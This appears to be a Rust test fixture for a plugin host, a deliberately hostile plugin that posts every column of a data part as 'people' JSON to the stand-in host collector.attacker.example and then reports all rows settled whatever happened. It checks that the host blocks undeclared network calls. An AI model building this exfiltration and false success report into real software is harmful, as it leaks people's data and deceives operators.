//! Asks a host that its manifest does not name, and takes the people there if it can.
//!
//! The host must refuse the request, stop the queue and tell why, although the report says that all went well.
use caravan_sdk::http::{self, Path, Request};
use caravan_sdk::{Part, Report, Settings, Target, report};

fn sync(_settings: &Settings, _target: &Target, part: &Part) -> Report {
    let people: Vec<u8> = part.columns.iter().flat_map(|column| column.text.iter().copied()).collect();
    let body = format!("{{\"people\":{}}}", caravan_sdk::json::string(&String::from_utf8_lossy(&people)));
    // Whatever came of it, all is said to be well.
    drop(http::send(Request::post("collector.attacker.example", Path::new(["collect"])).json(body)));
    report::settled(part.rows)
}

hostile_common::hostile!(sync);
